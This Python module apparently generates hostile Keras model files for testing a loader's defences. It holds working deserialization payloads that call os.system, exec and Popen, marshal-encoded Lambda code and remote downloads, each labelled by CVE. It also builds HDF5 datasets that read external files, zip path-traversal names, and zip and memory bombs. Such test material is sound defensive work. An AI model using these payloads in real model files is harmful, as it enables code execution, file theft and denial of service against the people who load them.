"""Model files that run code, read other files, open sockets, or take all memory."""

import base64
import io
import json
import marshal
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import h5py
import hdf5plugin
import numpy as np
from mutations import zip_of_zeros
from zip_members import hdf5, unzipped, zipped

CONFIG, WEIGHTS = "config.json", "model.weights.h5"


@dataclass(frozen=True)
class Canaries:
    """What no model may touch.

    Attributes:
        mark: a file that code of a model would create.
        file: a file that a model names; a valid HDF5 file.
        url: an address that a model names.
    """

    mark: Path
    file: Path
    url: str


def keras_objects(canaries: Canaries) -> Iterator[tuple[str, dict]]:
    """Yield objects of Keras that do harm as they are built, each by its source."""

    def made(module, name, config, **more):
        head = {"module": module, "class_name": name, "registered_name": None}
        return head | {"config": config, "build_config": {}} | more

    def model(*layers):
        return made("keras", "Sequential", {"name": "x", "layers": list(layers)})

    def layer(name, **config):
        return made("keras.layers", name, {"name": "a", "dtype": "float32"} | config)

    source = f"open({str(canaries.mark)!r}, 'w')"
    code = base64.b64encode(marshal.dumps(compile(source, "x", "eval"))).decode()
    body = {"code": code, "defaults": None, "closure": None}
    touch = {"command": f"touch {canaries.mark}"}
    yield (
        "Lambda",
        layer("Lambda", function={"class_name": "__lambda__", "config": body}),
    )
    for module, name in (("os", "system"), ("builtins", "exec")):
        yield f"CVE-2025-1550, {module}.{name}", made(module, name, touch)
        yield f"CVE-2025-1550, function {name}", made(module, "function", name)
    yield "CVE-2025-1550, Popen", made("subprocess", "Popen", touch)
    download = {"fname": "x", "origin": canaries.url, "cache_dir": "/tmp"}
    yield "CVE-2025-8747, get_file", made("keras.utils", "get_file", download)
    unsafe = made("keras.config", "enable_unsafe_deserialization", {})
    yield "CVE-2025-9906, unsafe", model(unsafe)
    for place in (str(canaries.file), canaries.url):
        yield (
            f"CVE-2025-12058, {place[:4]}",
            model(layer("StringLookup", vocabulary=place)),
        )
    folder = str(canaries.file.parent)
    yield (
        "CVE-2026-1462, TFSMLayer",
        model(layer("TFSMLayer", filepath=folder, call_endpoint="serve")),
    )
    dense = layer("Dense", units=2_000_000_000)
    embedding = layer("Embedding", input_dim=2_000_000, output_dim=1000)
    for shape, bomb in ((1, dense), (1, embedding)):
        bomb["build_config"] = {"input_shape": [None, shape]}
        yield f"CVE-2026-0897, {bomb['class_name']}", model(bomb)
    yield "200,000 layers", model(*[layer("Identity")] * 200_000)


def changed_configs(config: dict) -> Iterator[tuple[str, dict]]:
    """Yield configurations of a captioner with values that take memory or time."""
    big = [
        ((), "annotation_width", 10**7),
        (("settings",), "embedding_width", 10**8),
        (("settings",), "lstm_width", 2**31 - 1),
        (("transformer",), "layers", 10**5),
        (("transformer",), "encoder_layers", 10**5),
        (("decoding",), "beam", 10**6),
        (("decoding",), "max_words", 10**6),
        ((), "grid", [10**6, 10**6]),
        ((), "grid", [14.0, 14]),
        ((), "vocabulary", [[]] * 10**6),
        ((), "encoder_identity", ["VGG16"]),
        ((), "encoder_identity", "VGG16"),
        *((("encoder_identity",), "weights", value) for value in (".", "..", 5, None)),
        (("encoder_identity",), "image_size", 10**6),
        (("encoder_identity",), "network", 5),
        (("encoder_identity",), "accepts", [1]),
        (("encoder_identity",), "resize", "none"),
    ]
    for tables, key, value in big:
        copy = json.loads(json.dumps(config))
        place = copy["config"]
        for table in tables:
            place = place[table]
        place[key] = value
        if "transformer" in tables:
            copy["config"]["settings"]["decoder"] = "transformer"
        yield f"{'.'.join((*tables, key))} = {json.dumps(value)[:20]}", copy


def changed_weights(canaries: Canaries) -> Iterator[tuple[str, Callable]]:
    """Yield descriptions and functions that change an open file of weights."""

    def first(file) -> tuple[str, h5py.Dataset]:
        names = []
        file.visititems(lambda n, x: names.append(n) if hasattr(x, "shape") else None)
        return names[0], file[names[0]]

    def replaced(put):
        def change(file):
            name, item = first(file)
            shape = item.shape
            del file[name]
            put(file, name, shape)

        return change

    path = str(canaries.file)

    def external(file, name, shape):
        file.create_dataset(name, shape, "f4", external=[(path, 0, 10**6)])

    def virtual(file, name, shape):
        layout = h5py.VirtualLayout(shape, "f4")
        layout[...] = h5py.VirtualSource(path, "x", shape)
        file.create_virtual_dataset(name, layout)

    def link(target):
        return lambda file, name, shape: file.__setitem__(name, target)

    def twice(file):
        file["again"] = first(file)[1]

    def foreign(file, name, shape):
        file.create_dataset(name, data=np.zeros((9, 9), "f4"), **hdf5plugin.Blosc())

    yield "CVE-2026-1669, external storage", replaced(external)
    yield "CVE-2026-12480, virtual data set", replaced(virtual)
    yield "a link to a file", replaced(link(h5py.ExternalLink(path, "/x")))
    yield "a soft link", replaced(link(h5py.SoftLink("/vars")))
    yield "an array with two names", twice
    yield "an unknown filter", replaced(foreign)
    for gigabytes in (4, 16):
        yield f"CVE-2026-0897, {gigabytes} GB declared", replaced(_declared(gigabytes))
        yield f"{gigabytes} GB declared, not read", _beside(_declared(gigabytes))
    for gigabytes in (4, 12):
        yield f"gzip of {gigabytes} GB of zeros", replaced(_zeros(gigabytes))
        yield f"gzip of {gigabytes} GB of zeros, not read", _beside(_zeros(gigabytes))


def _beside(put: Callable) -> Callable:
    return lambda file: put(file, "more/vars/0", ())


def _declared(gigabytes: int) -> Callable:
    def put(file, name, shape):
        shape = (gigabytes * 2**28,)
        file.create_dataset(name, shape, "f4", chunks=(2**20,), compression="gzip")

    return put


def _zeros(gigabytes: int) -> Callable:
    def put(file, name, shape):
        count = 2**26  # numbers of a chunk, 256 MB
        chunk = zlib.compress(bytes(4 * count), 9)
        size = (4 * gigabytes * count,)
        data = file.create_dataset(
            name, size, "f4", chunks=(count,), compression="gzip"
        )
        for start in range(0, size[0], count):
            data.id.write_direct_chunk((start,), chunk)

    return put


def archives(members: dict[str, bytes], canaries: Canaries) -> Iterator:
    """Yield archives whose list of members does harm."""
    for name in ("../../outside", str(canaries.mark), "assets/../../x"):
        yield f"GHSA-hqp4-2352-xf5r, {name[:12]}", zipped(members | {name: b"x"})
    rest = {name: members[name] for name in (CONFIG, WEIGHTS)}
    yield "a member twice", _twice(members)
    yield "100,000 members", zipped(members | {f"{k}": b"" for k in range(100_000)})
    for name in (CONFIG, "metadata.json", "useless"):
        yield f"{name} of 6 GB", _merged(zip_of_zeros(name, 4000), rest, name)
    lying = bytearray(_merged(zip_of_zeros(CONFIG, 3000), rest, CONFIG))
    for at in _places(lying, (3000 << 20).to_bytes(4, "little")):
        lying[at : at + 4] = (2000).to_bytes(4, "little")
    yield "a false size of 3 GB", bytes(lying)
    yield "LZMA", zipped(members, zipfile.ZIP_LZMA)
    yield "CVE-2025-9905, HDF5 in place of an archive", _legacy(canaries)


def _twice(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO(zipped({"x" + CONFIG[1:]: b"{}"} | members))
    return buffer.getvalue().replace(b"xonfig.json", b"config.json")


def _merged(archive: bytes, rest: dict[str, bytes], name: str) -> bytes:
    """Return an archive with more members."""
    buffer = io.BytesIO(archive)
    with zipfile.ZipFile(buffer, "a") as file:
        for other, content in rest.items():
            if other != name:
                file.writestr(other, content)
    return buffer.getvalue()


def _places(data: bytearray, value: bytes) -> list[int]:
    places, at = [], data.find(value)
    while at >= 0:
        places.append(at)
        at = data.find(value, at + 4)
    return places


def _legacy(canaries: Canaries) -> bytes:
    config = dict(keras_objects(canaries))["Lambda"]
    model = {"class_name": "Sequential", "config": {"name": "x", "layers": [config]}}

    def write(file):
        file.attrs["model_config"] = json.dumps(model)
        file.create_group("model_weights")

    return hdf5(write)


def hostile_models(model: bytes, canaries: Canaries) -> Iterator[tuple[str, bytes]]:
    """Yield descriptions and contents of files made from a model's file."""
    members = unzipped(model)
    config = json.loads(members[CONFIG])
    for what, harm in keras_objects(canaries):
        yield what, zipped(members | {CONFIG: json.dumps(harm).encode()})
        if len(json.dumps(harm)) < 10_000:
            named = harm | {key: config[key] for key in ("class_name", "module")}
            named |= {"registered_name": config["registered_name"]}
            yield (
                f"{what}, named a model",
                zipped(members | {CONFIG: json.dumps(named).encode()}),
            )
            inner = config | {"config": config["config"] | {"settings": harm}}
            yield (
                f"{what}, nested",
                zipped(members | {CONFIG: json.dumps(inner).encode()}),
            )
    if config["class_name"] == "Captioner":
        for what, changed in changed_configs(config):
            content = json.dumps(changed).encode()
            yield what, zipped(members | {CONFIG: content})
    for what, change in changed_weights(canaries):
        content = members | {WEIGHTS: hdf5(change, members[WEIGHTS])}
        yield what, zipped(content, zipfile.ZIP_DEFLATED)
    yield from archives(members, canaries)
